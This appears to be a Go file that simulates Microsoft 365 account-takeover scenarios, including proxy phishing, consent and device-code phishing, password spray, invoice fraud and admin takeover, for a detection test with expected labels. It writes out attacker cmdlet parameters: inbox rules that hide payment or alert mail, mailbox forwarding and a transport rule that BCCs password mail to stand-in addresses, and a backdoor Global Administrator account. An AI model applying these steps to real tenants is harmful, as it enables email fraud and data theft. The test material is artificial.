package scenarios

import (
	"fmt"
	"strings"
	"time"
)

// onDay runs an attack once, so many days before the end.
func onDay(back int, attack func(*world, int)) func(*world, int) {
	return func(g *world, day int) {
		if day == g.cfg.Days+back {
			attack(g, day)
		}
	}
}

// victim is the person that most attacks concern: no administrator, works with
// the browser, not on a journey.
func (g *world) victim() *user {
	for _, u := range g.users {
		if !u.admin && u.web && u.tripFrom < 0 && u != g.users[0] {
			return u
		}
	}
	return g.users[0]
}

var linuxChrome = device{os: "Linux", browser: "Chrome 140.0.0", agent: chromeLin}
var windowsFirefox = device{os: "Windows10", browser: "Firefox 143.0", agent: firefoxWin}

// intruder is a stranger's seat in the user's name.
func intruder(u *user, n network, d device) *seat {
	return &seat{user: u, net: n, dev: d, app: appHome, mail: "Client=OWA;" + d.agent + ";", hand: Attacker}
}

var proxyHost = network{"203.0.113.7", asnHost, newark}
var workstation = network{"203.0.113.90", asnHostTwo, bucharest}

// lure delivers the mail that it began with.
func (g *world) lure(u *user, t time.Time) {
	g.receive(u, message{id: g.messageID(), subject: "Shared document: remittance advice", from: "docs@fabrlkam.example", size: 31000}, t, Attacker)
}

// proxied lets a phishing proxy sign in with what the owner types (V11), and
// the token travel to the attacker's own computer. It returns that seat.
func (g *world) proxied(u *user, t time.Time) *seat {
	g.lure(u, t.Add(-20*time.Minute))
	proxy := intruder(u, proxyHost, linuxChrome)
	g.signIn(proxy, t, login{interactive: true, method: "Password+Mobile app notification"})
	s := intruder(u, workstation, windowsFirefox)
	s.session = proxy.session
	g.signIn(s, t.Add(18*time.Minute), login{claim: true})
	s.app = appOWA
	g.take(u)
	return s
}

// take notes that the account is the attacker's from now on.
func (g *world) take(u *user) { g.expect[u.upn] = wantCompromised }

// browse reads around in the mailbox.
func (g *world) browse(s *seat, t time.Time, times int) {
	for i := range times {
		g.bind(s, s.user, t.Add(time.Duration(i*150)*time.Second), g.some(s.user, 4+g.rng.IntN(5)))
	}
}

// money returns a supplier of the user and a thread about an invoice.
func (g *world) money(u *user, t time.Time) (supplier string, thread message) {
	supplier = u.partners[0]
	thread = message{id: g.messageID(), subject: "Invoice 20417", from: supplier, size: 54000}
	g.receive(u, thread, t, Owner)
	return supplier, thread
}

// hide makes the rule that keeps the supplier's answers from the owner.
func (g *world) hide(s *seat, t time.Time) {
	u := s.user
	u.rules = append(u.rules, rule{name: ".", id: "17639250888751054849", moveTo: "RSS Feeds", words: "invoice;payment;bank", read: true, stop: true})
	g.cmdlet(s, t, "New-InboxRule", orgPrefix+u.alias()+`\.`, "AlwaysDeleteOutlookRulesBlob", "False", "Force", "False", "Name", ".", "SubjectOrBodyContainsWords", "invoice;payment;bank", "MoveToFolder", "RSS Feeds", "MarkAsRead", "True", "StopProcessingRules", "True")
}

// fraud answers in the thread with other bank details and removes the trace.
func (g *world) fraud(s *seat, t time.Time, supplier string) {
	m := g.send(s, t, "Re: Invoice 20417", []string{supplier}, "Invoice 20417.pdf (52110b)")
	g.move(s, t.Add(4*time.Minute), "SoftDelete", []message{m}, `\Sent Items`, "")
}

func aitmInvoice(g *world, day int) {
	u := g.victim()
	supplier, _ := g.money(u, g.between(day, 8, 8.2))
	t := g.between(day, 9.5, 10)
	s := g.proxied(u, t)
	g.browse(s, t.Add(20*time.Minute), 8)
	g.hide(s, t.Add(45*time.Minute))
	g.registerMethod(s, t.Add(55*time.Minute))
	for d := 1; d <= 3; d++ {
		later := g.between(day+d, 11, 12)
		g.signIn(s, later, login{claim: true})
		g.browse(s, later.Add(time.Minute), 5)
		if d == 1 {
			g.fraud(s, later.Add(20*time.Minute), supplier)
		}
	}
}

func sprayForward(g *world, day int) {
	t := g.between(day, 3, 3.5)
	u := g.victim()
	addr := "203.0.113.44"
	for i, x := range g.users[:min(10, len(g.users))] {
		if x == u {
			continue
		}
		s := g.stranger(x, addr)
		s.net.asn, s.net.at = asnHost, newark
		g.signIn(s, t.Add(time.Duration(i*4)*time.Minute), login{interactive: true, code: 50126, method: "Password"})
	}
	in := g.stranger(u, addr)
	in.net.asn, in.net.at = asnHost, newark
	g.signIn(in, t.Add(50*time.Minute), login{interactive: true, method: "Password"})
	s := intruder(u, workstation, windowsFirefox)
	g.signIn(s, t.Add(90*time.Minute), login{interactive: true, method: "Password"})
	s.app = appOWA
	g.browse(s, t.Add(95*time.Minute), 4)
	u.forward = "smtp:archive2231@mailbox.example"
	g.cmdlet(s, t.Add(110*time.Minute), "Set-Mailbox", orgPrefix+u.alias(), "Identity", u.upn, "ForwardingSmtpAddress", u.forward, "DeliverToMailboxAndForward", "True")
	imap := *s
	imap.mail = "Client=POP3/IMAP4;Protocol=IMAP4"
	for i, f := range []string{`\Inbox`, `\Sent Items`, `\Archive`} {
		g.sync(&imap, u, t.Add(time.Duration(125+i)*time.Minute), f)
	}
	g.take(u)
}

func consentPhish(g *world, day int) {
	u := g.victim()
	t := g.between(day, 10, 11)
	g.lure(u, t.Add(-time.Hour))
	evil := app{"b7e1f1c2-5a0d-4c77-9d11-2f6a90b4c3de", "Mail Backup Pro"}
	spID := g.guid()
	owner := g.atLaptop(u, g.office)
	g.signIn(owner, t.Add(-30*time.Second), login{interactive: true, claim: true})
	sp := target{"ServicePrincipal", spID, evil.name, ""}
	g.directory(owner, t, "Add service principal.", "ApplicationManagement", sp, "AppId", "", `["`+evil.id+`"]`, "DisplayName", "", `["`+evil.name+`"]`)
	g.directory(owner, t.Add(time.Second), "Add delegated permission grant.", "ApplicationManagement", sp, "DelegatedPermissionGrant.Scope", "", " Mail.Read Mail.ReadWrite offline_access User.Read", "DelegatedPermissionGrant.ConsentType", "", "Principal")
	g.directory(owner, t.Add(2*time.Second), "Consent to application.", "ApplicationManagement", sp,
		"ConsentContext.IsAdminConsent", "", "False", "ConsentContext.OnBehalfOfAll", "", "False", "TargetId.ServicePrincipalNames", "", evil.id,
		"ConsentAction.Permissions", "", "[] => [[Id: dXkrfO39OEqwy23QBvNACusb3saOFPZDjHMp2EIy5pnhOhJAsd8kQpXG7dJQDCf3, ClientId: "+spID+", PrincipalId: "+u.oid+", ResourceId: c6de1beb-148e-43f6-8c73-29d84232e699, ConsentType: Principal, Scope:  Mail.Read Mail.ReadWrite offline_access User.Read, CreatedDateTime: , LastModifiedDateTime ]]; ")
	s := intruder(u, network{"203.0.113.61", asnHost, newark}, device{agent: "python-requests/2.32.3"})
	s.app, s.mail = evil, "Client=REST;Client=RESTSystem;;"
	s.mail = "Client=REST;;"
	for d := range 4 {
		at := t.Add(10*time.Minute).AddDate(0, 0, d)
		for i := range 12 {
			g.bind(s, u, at.Add(time.Duration(i*125)*time.Second), g.some(u, 12))
		}
	}
	g.expect[u.upn] = wantSuspected
}

func deviceCode(g *world, day int) {
	u := g.victim()
	t := g.between(day, 10, 11)
	g.lure(u, t.Add(-30*time.Minute))
	owner := g.atLaptop(u, g.office)
	owner.app = appBroker
	g.signIn(owner, t, login{interactive: true, protocol: "deviceCode", claim: true})
	s := intruder(u, workstation, device{os: "Windows10", browser: "", agent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/138.0.0.0 Safari/537.36"})
	s.app, s.session = appBroker, owner.session
	g.signIn(s, t.Add(3*time.Minute), login{protocol: "deviceCode", transfer: "deviceCodeFlow", claim: true})
	s.app = appOffice
	g.signIn(s, t.Add(5*time.Minute), login{transfer: "deviceCodeFlow", claim: true, incoming: "refreshToken"})
	dev := target{"Device", g.guid(), "DESKTOP-7PLM2Q", ""}
	u.owns(device{id: dev.id, name: dev.name, os: "Windows", trust: "Azure AD registered"}, t.Add(8*time.Minute), Attacker)
	g.directory(s, t.Add(8*time.Minute), "Add device.", "Device", dev, "Device.DisplayName", "", `["DESKTOP-7PLM2Q"]`)
	g.directory(s, t.Add(8*time.Minute+time.Second), "Add registered owner to device.", "Device", u.target(), "Device.DisplayName", "", `["DESKTOP-7PLM2Q"]`, "Device.ObjectID", "", `["`+dev.id+`"]`)
	s.mail = "Client=REST;;"
	g.browse(s, t.Add(15*time.Minute), 10)
	for d := 1; d <= 2; d++ {
		later := g.between(day+d, 1, 2)
		g.signIn(s, later, login{transfer: "deviceCodeFlow", claim: true, incoming: "refreshToken"})
		g.browse(s, later.Add(time.Minute), 6)
	}
	g.take(u)
}

func phishingWave(g *world, day int) {
	u := g.victim()
	t := g.between(day, 12, 13)
	s := g.proxied(u, t)
	g.browse(s, t.Add(20*time.Minute), 3)
	u.rules = append(u.rules, rule{name: "..", id: "9912250888751054849", words: "undeliverable;phish;virus;hacked;scam", wipe: true})
	g.cmdlet(s, t.Add(30*time.Minute), "New-InboxRule", orgPrefix+u.alias()+`\..`, "Name", "..", "SubjectOrBodyContainsWords", "undeliverable;phish;virus;hacked;scam", "DeleteMessage", "True", "StopProcessingRules", "True")
	for part := range 6 {
		to := make([]string, 0, 60)
		for i := range 60 {
			to = append(to, fmt.Sprintf("contact%03d@partners.example", part*60+i))
		}
		m := g.send(s, t.Add(time.Duration(40+part*2)*time.Minute), "Document shared with you", to, "Remittance.html (18211b)")
		g.move(s, t.Add(time.Duration(41+part*2)*time.Minute), "HardDelete", []message{m}, `\Sent Items`, "")
	}
	g.restricted(u, t.Add(70*time.Minute))
}

// restricted is Microsoft barring the account from sending.
func (g *world) restricted(u *user, t time.Time) {
	w := &g.w
	id := g.head(t, "Event Listed", 51, "Compliance", "", 4, "SecurityComplianceAlerts", "SecurityComplianceAlerts")
	w.str("EventValue", u.upn)
	w.str("Reason", "OutboundSpamLast24Hours=360;OutboundMailLast24Hours=366")
	w.str("Audit", "outbound spam")
	w.close('}')
	g.put(Audit, id, t, Service, "SecurityComplianceAlerts", "Event Listed", false)
}

func adminTakeover(g *world, day int) {
	u := g.users[1]
	t := g.between(day, 20, 21)
	s := g.proxied(u, t)
	g.browse(s, t.Add(20*time.Minute), 2)
	portal := *s
	portal.portal = true
	copyist := &user{first: "IT", last: "Supp0rt", upn: "it.supp0rt@" + domain, oid: g.guid(), puid: "10032001AA77C0DE", sid: "S-1-5-21-1376570662-3565232716-1187618197-4990001", mailbox: g.guid()}
	g.directory(&portal, t.Add(25*time.Minute), "Add user.", "UserManagement", copyist.target(), "AccountEnabled", "[]", "[true]", "UserPrincipalName", "[]", `["`+copyist.upn+`"]`, "DisplayName", "[]", `["IT Supp0rt"]`)
	for i, r := range []string{"Global Administrator", "Exchange Administrator", "Privileged Authentication Administrator"} {
		g.directory(&portal, t.Add(26*time.Minute+time.Duration(i)*time.Second), "Add member to role.", "RoleManagement", copyist.target(), "Role.DisplayName", "", `["`+r+`"]`)
	}
	g.cmdlet(s, t.Add(32*time.Minute), "New-TransportRule", "", "Name", ".", "Mode", "Enforce", "BlindCopyTo", "collect7781@mailbox.example", "SubjectOrBodyContainsWords", "password;payment;invoice", "SetAuditSeverity", "DoNotAudit", "StopRuleProcessing", "False")
	cfo := g.users[2]
	g.cmdlet(&portal, t.Add(36*time.Minute), "Add-MailboxPermission", cfo.alias(), "Identity", orgPrefix+cfo.alias(), "User", orgPrefix+copyist.alias(), "AccessRights", "FullAccess")
	g.hide(s, t.Add(40*time.Minute))
	second := intruder(copyist, workstation, windowsFirefox)
	g.signIn(second, t.Add(60*time.Minute), login{interactive: true, method: "Password"})
	second.app = appOWA
	for i := range 6 {
		g.bind(second, cfo, t.Add(time.Duration(64+i*3)*time.Minute), g.some(cfo, 6))
	}
	g.made, g.later = append(g.made, copyist.upn), append(g.later, copyist)
	g.expect[copyist.upn] = wantCompromised
	g.expect[cfo.upn] = wantLeftAlone
}

func hourRule(g *world, day int) {
	u := g.victim()
	supplier, _ := g.money(u, g.between(day, 8, 8.2))
	t := g.between(day, 14, 15)
	s := g.proxied(u, t)
	g.browse(s, t.Add(19*time.Minute), 3)
	g.hide(s, t.Add(25*time.Minute))
	u.rules = u.rules[:len(u.rules)-1]
	g.cmdlet(s, t.Add(26*time.Minute), "Set-Mailbox", orgPrefix+u.alias(), "Identity", u.upn, "ForwardingSmtpAddress", "smtp:archive2231@mailbox.example", "DeliverToMailboxAndForward", "True")
	g.fraud(s, t.Add(35*time.Minute), supplier)
	g.cmdlet(s, t.Add(70*time.Minute), "Remove-InboxRule", orgPrefix+u.alias()+`\.`, "Identity", u.upn+`\.`, "Force", "True")
	g.cmdlet(s, t.Add(71*time.Minute), "Set-Mailbox", orgPrefix+u.alias(), "Identity", u.upn, "ForwardingSmtpAddress", "", "DeliverToMailboxAndForward", "False")
}

func noRule(g *world, day int) {
	u := g.victim()
	supplier, thread := g.money(u, g.between(day, 8, 8.2))
	t := g.between(day, 10, 11)
	s := g.proxied(u, t)
	g.browse(s, t.Add(20*time.Minute), 6)
	g.fraud(s, t.Add(50*time.Minute), supplier)
	for d := 1; d <= 3; d++ {
		later := g.between(day+d, 9, 10)
		g.signIn(s, later, login{claim: true})
		reply := message{id: g.messageID(), subject: "Re: Invoice 20417", from: supplier, size: 41000}
		g.receive(u, reply, later.Add(time.Minute), Owner)
		g.bind(s, u, later.Add(2*time.Minute), []message{reply, thread})
		g.move(s, later.Add(3*time.Minute), "Move", []message{reply}, `\Inbox`, `\Conversation History`)
		g.send(s, later.Add(9*time.Minute), "Re: Invoice 20417", []string{supplier}, "")
	}
}

func delegateReading(g *world, day int) {
	u, director := g.victim(), g.users[2]
	t := g.between(day, 22, 22.5)
	s := g.proxied(u, t)
	g.browse(s, t.Add(20*time.Minute), 2)
	for i := range 12 {
		g.bind(s, director, t.Add(time.Duration(26+i*3)*time.Minute), g.some(director, 8))
	}
	g.hide(s, t.Add(80*time.Minute))
	g.expect[director.upn] = wantLeftAlone
}

// hardAttack is the same work for every hard pair: read, hide, defraud.
func (g *world) hardAttack(s *seat, t time.Time) {
	u := s.user
	supplier, _ := g.money(u, t.Add(-90*time.Minute))
	s.app = appOWA
	g.browse(s, t.Add(time.Minute), 6)
	g.hide(s, t.Add(25*time.Minute))
	g.fraud(s, t.Add(40*time.Minute), supplier)
	g.take(u)
}

func oneSession(g *world, day int) {
	u := g.victim()
	t := g.between(day, 9.5, 10)
	owner := g.atLaptop(u, g.office)
	s := intruder(u, network{"203.0.113.120", asnHost, newark}, linuxChrome)
	s.session = u.browserSession
	g.signInQuietly(owner, t.Add(-5*time.Minute))
	g.signIn(s, t, login{claim: true})
	for i := range 6 { // by turns, with a mailbox act of the owner between
		g.bind(owner, u, t.Add(time.Duration(i*10+2)*time.Minute), g.some(u, 3))
	}
	g.hardAttack(s, t)
}

func sameCity(g *world, day int) {
	u := g.victim()
	t := g.between(day, 19, 20)
	s := intruder(u, network{"203.0.113.130", asnHost, u.home.at}, linuxChrome)
	g.lure(u, t.Add(-20*time.Minute))
	g.signIn(s, t, login{interactive: true, method: "Password+Mobile app notification"})
	g.hardAttack(s, t)
}

func sameAgent(g *world, day int) {
	u := g.victim()
	t := g.between(day, 9.5, 10)
	fake := device{os: u.laptop.os, browser: u.laptop.browser, agent: u.laptop.agent}
	s := intruder(u, network{"203.0.113.140", asnHostTwo, bucharest}, fake)
	s.session = u.browserSession
	g.signIn(s, t, login{claim: true})
	g.hardAttack(s, t)
}

func residential(g *world, day int) {
	u := g.victim()
	t := g.between(day, 20, 21)
	s := intruder(u, network{"198.18.210.66", asnHomeTwo, utrecht}, device{os: "Windows10", browser: "Chrome 140.0.0", agent: strings.Replace(chromeLin, "X11; Linux x86_64", "Windows NT 10.0; Win64; x64", 1)})
	g.lure(u, t.Add(-20*time.Minute))
	g.signIn(s, t, login{interactive: true, method: "Password+Mobile app notification"})
	g.hardAttack(s, t)
}

func behindGateway(g *world, day int) {
	u := g.victim()
	t := g.between(day, 13, 14)
	s := intruder(u, network{"203.0.113.150", asnHost, amsterdam}, linuxChrome)
	g.lure(u, t.Add(-20*time.Minute))
	g.signIn(s, t, login{interactive: true, method: "Password+Mobile app notification"})
	g.hardAttack(s, t)
}

// inBaseline is an attacker who was there before the evidence begins.
func inBaseline(g *world, day int) {
	u := g.victim()
	t := g.between(day, 2, 3)
	s := intruder(u, network{"203.0.113.160", asnHost, newark}, linuxChrome)
	if day%10 == 0 {
		g.signIn(s, t, login{interactive: true, method: "Password+Mobile app notification"})
	} else {
		g.signIn(s, t, login{claim: true})
	}
	s.app = appOWA
	g.browse(s, t.Add(time.Minute), 2)
	switch day {
	case 1:
		g.cmdlet(s, t.Add(10*time.Minute), "New-InboxRule", orgPrefix+u.alias()+`\..`, "Name", "..", "SubjectOrBodyContainsWords", "phish;hacked;security alert", "DeleteMessage", "True", "StopProcessingRules", "True")
		u.rules = append(u.rules, rule{name: "..", id: "7712250888751054849", words: "phish;hacked;security alert", wipe: true, stop: true})
	case g.cfg.Days - 3:
		supplier, _ := g.money(u, t.Add(-90*time.Minute))
		g.fraud(s, t.Add(40*time.Minute), supplier)
	}
	g.take(u)
}
